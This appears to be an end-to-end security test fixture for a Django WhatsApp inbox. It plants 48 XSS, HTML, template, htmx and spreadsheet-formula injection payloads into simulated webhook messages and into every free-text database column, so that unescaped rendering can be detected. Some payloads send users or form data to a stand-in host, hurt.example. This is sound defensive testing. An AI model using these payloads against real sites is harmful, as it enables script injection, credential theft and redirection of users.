"""Texts that mean harm, and how each gets into every field that outsiders or people fill.

`plant` runs in the product's own environment: `manage.py shell -c "from tests.e2e.injected import plant; plant()"`.
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from typing import Any

MARK = "data-hurt"
"""Every element that a payload would make has this attribute."""
PAYLOADS = [
    "<script data-hurt>hurt(1)</script>",
    "<img data-hurt src=x onerror=hurt(2)>",
    "<svg data-hurt onload=hurt(3)>",
    "<svg data-hurt><script data-hurt>hurt(4)</script></svg>",
    "<iframe data-hurt srcdoc='<script>parent.hurt(5)</script>'></iframe>",
    "<iframe data-hurt src=javascript:hurt(6)></iframe>",
    "<a data-hurt href=javascript:hurt(7)>x</a>",
    "<body data-hurt onload=hurt(8)>",
    "<details data-hurt open ontoggle=hurt(9)>x",
    "<video data-hurt><source data-hurt onerror=hurt(10)></video>",
    "<input data-hurt autofocus onfocus=hurt(11)>",
    "<style data-hurt>*{display:none}</style>",
    "<link data-hurt rel=stylesheet href=//hurt.example/x.css>",
    "<meta data-hurt http-equiv=refresh content=0;url=//hurt.example>",
    "<base data-hurt href=//hurt.example/>",
    "<form data-hurt action=//hurt.example><button data-hurt>x</button>",
    "<object data-hurt data=javascript:hurt(17)></object>",
    "<math data-hurt><mtext></table><img data-hurt src onerror=hurt(18)>",
    "</textarea><script data-hurt>hurt(19)</script>",
    "</title><script data-hurt>hurt(20)</script>",
    "--><img data-hurt src=x onerror=hurt(21)><!--",
    "]]><img data-hurt src=x onerror=hurt(22)>",
    "\" data-hurt onmouseover=hurt(23) autofocus onfocus=hurt(23) x=\"",
    "' data-hurt onmouseover=hurt(24) autofocus onfocus=hurt(24) x='",
    "` data-hurt onmouseover=hurt(25) ",
    "x onpointerenter=hurt(26) data-hurt=1",
    "javascript:hurt(27)",
    "JaVaScRiPt&colon;hurt(28)",
    "\x01javascript:hurt(29)",
    "java\tscript:hurt(30)",
    "data:text/html,<script data-hurt>hurt(31)</script>",
    "{{ 7|add:7000 }}hurt{% now 'Y' %}",
    "${hurt(33)}{{constructor.constructor('hurt(33)')()}}",
    "<div data-hurt hx-get=/login/ hx-trigger=load hx-on::load=hurt(34)>",
    "<div data-hurt hx-vals='js:{a:hurt(35)}' hx-trigger=load hx-post=/logout/>",
    "<i data-hurt id=catch-up hx-swap-oob=true hx-get=/login/ hx-trigger=load></i>",
    "&lt;img data-hurt src=x onerror=hurt(37)&gt;",
    "&#60;img data-hurt src=x onerror=hurt(38)&#62;",
    "%3Cimg data-hurt src=x onerror=hurt(39)%3E",
    "\u202e>x=hurt(40) tg-atad gmi<\u202c",
    "\uff1cimg data-hurt src=x onerror=hurt(41)\uff1e",
    "<\u0000img data-hurt src=x onerror=hurt(42)>",
    "\u2028<script data-hurt>hurt(43)</script>\u2029",
    "https://x.example/?\"onmouseover=hurt(44)//data-hurt",
    "https://x.example/'><img data-hurt src=x onerror=hurt(45)>",
    "=HYPERLINK(\"javascript:hurt(46)\";\"x\")",
    "\\\"><img data-hurt src=x onerror=hurt(47)>\\u003cscript\\u003e",
    "<template data-hurt><script>hurt(48)</script></template>",
]  # fmt: skip

STORED = [payload.replace("\x00", "") for payload in PAYLOADS]
"""What a database can hold of them."""

# --- What customers fill: every kind of message with every payload, as Meta would deliver it --------------

KEPT = {"id", "type", "message_id", "latitude", "longitude", "status", "event", "direction", "mime_type", "media_type"}
"""Keys whose values say what a message is: with another value it would be another message."""


def deliveries(number_id: str, samples: dict[str, tuple[str, dict[str, Any], list[str]]]) -> Iterator[bytes]:
    """Yield one delivery for each payload: a customer of that name who sends every kind of message."""
    kinds = [(kind, raw) for kind, raw, _ in samples.values() if kind != "system"]
    for position, payload in enumerate(PAYLOADS):
        phone, now = f"55119{50_000_000 + position}", int(time.time())
        messages = [
            {"id": f"wamid.hurt.{position}.{n}", "from": phone, "timestamp": str(now - 600 + n), "type": kind}
            | _poisoned(raw, payload)
            for n, (kind, raw) in enumerate(kinds)
        ]
        contact = {"wa_id": phone, "profile": {"name": payload, "username": payload}}
        yield _body(number_id, {"contacts": [contact], "messages": messages})


def latecomers(number_id: str) -> Iterator[bytes]:
    """Yield one more message of each of these customers, for pages that are open by then."""
    for position, payload in enumerate(PAYLOADS):
        message = {
            "id": f"wamid.late.{position}",
            "from": f"55119{50_000_000 + position}",
            "timestamp": str(int(time.time())),
            "type": "text",
            "text": {"body": f"late {payload}"},
        }
        yield _body(number_id, {"messages": [message]})


def _poisoned(value: Any, payload: str, key: str = "") -> Any:
    if isinstance(value, dict):
        return {name: _poisoned(inner, payload, name) for name, inner in value.items()}
    if isinstance(value, list):
        return [_poisoned(inner, payload, key) for inner in value]
    return payload if isinstance(value, str) and key not in KEPT else value


def _body(number_id: str, value: dict[str, Any]) -> bytes:
    metadata = {"display_phone_number": "551140020001", "phone_number_id": number_id}
    change = {"field": "messages", "value": {"messaging_product": "whatsapp", "metadata": metadata} | value}
    entry = {"id": "102938475610001", "changes": [change]}
    return json.dumps({"object": "whatsapp_business_account", "entry": [entry]}).encode()


# --- What people of ours and Graph fill: whatever free text a row has -------------------------------------

OURS = ("accounts", "teams", "numbers", "contacts", "messaging", "inbox", "webhooks")
MUST = {
    "accounts_user.name", "teams_team.name", "numbers_phonenumber.name", "numbers_phonenumber.verified_name",
    "numbers_phonenumber.check_error", "numbers_wabaaccount.name", "numbers_wabaaccount.check_error",
    "contacts_contact.name", "contacts_contact.book_name", "messaging_template.name", "messaging_template.reason",
    "inbox_message.error_detail", "inbox_attachment.filename", "inbox_transfer.note", "numbers_alert.subject",
    "inbox_sendattempt.detail",
}  # fmt: skip
"""Columns that hold words of people, customers or Graph: that they were planted is part of the proof."""
CODES = {
    "password", "role", "kind", "state", "status", "key", "topic", "wamid", "quoted_wamid", "target_wamid", "lane",
    "client_key", "direction", "content_type", "sha256", "claimed_sha256", "media_id", "phone_number_id", "waba_id",
    "portfolio_id", "waac_id", "meta_id", "color", "language", "severity", "time_zone", "problem", "outcome", "value",
    "text", "entity_type", "request_id", "action", "routing_key", "subscription", "prefix", "session_key", "mac",
}  # fmt: skip
"""Names of columns that hold words of a list, ids and digests; `text` came by the deliveries."""


def plant() -> None:
    """Make rows of everything, and put payload after payload into every free text; fail where one cannot hold it."""
    from django.db import transaction

    with transaction.atomic():
        _make_rows()
    planted = set(_fill())
    assert planted >= MUST, sorted(MUST - planted)


def _make_rows() -> None:
    from django.utils import timezone

    from accounts.audit import record
    from accounts.models import Role, User
    from inbox.models import Attachment, Conversation, Message, Transfer
    from inbox.models.sending import SendAttempt
    from messaging.models import Template
    from numbers.alert_kinds import KINDS
    from numbers.models import Alert, PhoneNumber, WabaAccount
    from teams.models import Team
    from webhooks.models import WebhookEvent

    now, admin, number = timezone.now(), User.objects.get(email="admin@demo.prosa"), PhoneNumber.objects.first()
    messages = list(Message.objects.filter(wamid__startswith="wamid.hurt.").order_by("-pk")[: len(PAYLOADS)])
    for n, payload in enumerate(STORED):
        team = Team.objects.create(name=f"t{n}")
        waba = WabaAccount.objects.create(waba_id=f"8{n:014}", name="w")
        shown = PhoneNumber.objects.create(waba=waba, phone_number_id=f"9{n:014}", display_phone=f"+{n}", name="n")
        User.objects.create_user(f"hurt{n}@demo.prosa", name="u", role=Role.AGENT)
        Template.objects.create(
            waba=number.waba, name=f"t{n}", language="pt_BR", category="UTILITY", status="REJECTED", meta_id=str(n),
            components=[{"type": "BODY", "text": payload}],
        )  # fmt: skip
        kind = list(KINDS)[n % len(KINDS)]
        particulars = dict.fromkeys(("reason", "title", "text", "name", "callback", "error", "to", "was"), payload)
        given = {"kind": kind, "topic": kind, "severity": "WARNING", "at": now, "key": f"{n:064}"}
        Alert.objects.create(waba=number.waba, number=shown, particulars=particulars, **given)
        WebhookEvent.objects.create(
            body=payload.encode(errors="replace"), state="QUARANTINED", routing_key=number.phone_number_id, outcome={}
        )
        record("team.created", team, by=admin, name=payload)
        conversation = Conversation.objects.get(pk=messages[n].conversation_id)
        Transfer.objects.create(conversation=conversation, to_team=team, by=admin, note="n", from_user=admin)
        said = {"direction": "OUTBOUND", "kind": "text", "text": payload}
        failed = Message.objects.create(
            conversation=conversation, number=conversation.number, sent_at=now, wamid=f"wamid.failed.{n}",
            status=Message.Status.FAILED, **said,
        )  # fmt: skip
        SendAttempt.objects.create(message=failed, outcome="REJECTED", ended_at=now, detail="d")
        Attachment.objects.get_or_create(
            message=messages[n], defaults={"media_id": "1", "state": "FAILED", "expires_at": now, "filename": "f"}
        )


def _fill() -> Iterator[str]:
    """Put a payload into every free text of every row: the row's place and the column's say which."""
    from django.apps import apps
    from django.db import DatabaseError, connection, transaction

    for model in (model for app in OURS for model in apps.get_app_config(app).get_models()):
        table, pk = model._meta.db_table, model._meta.pk.column
        for position, (column, width, is_unique) in enumerate(_free_texts(model)):
            sql = (
                f"UPDATE {table} AS t SET {column} = left((%s::text[])[1 + (n.n + %s) %% %s], %s) FROM"
                f" (SELECT {pk}, row_number() OVER (ORDER BY {pk} DESC)::int AS n FROM {table}) AS n"
                f" WHERE n.{pk} = t.{pk} AND n.n <= %s"
            )
            rows = len(STORED) if is_unique else 10**6
            try:
                with transaction.atomic(), connection.cursor() as cursor:
                    cursor.execute(sql, [STORED, position, len(STORED), width, rows])
                    if cursor.rowcount:
                        yield f"{table}.{column}"
            except DatabaseError:
                # A list of allowed words, a unique one, or a history that nobody changes.
                continue


def _free_texts(model: Any) -> Iterator[tuple[str, int, bool]]:
    from django.db import models

    from lib.encryption import EncryptedTextField

    for field in model._meta.concrete_fields:
        is_text = type(field) in (models.CharField, models.TextField) and not isinstance(field, EncryptedTextField)
        if is_text and not field.primary_key and not field.choices and field.name not in CODES:
            yield field.column, field.max_length or 10_000, field.unique
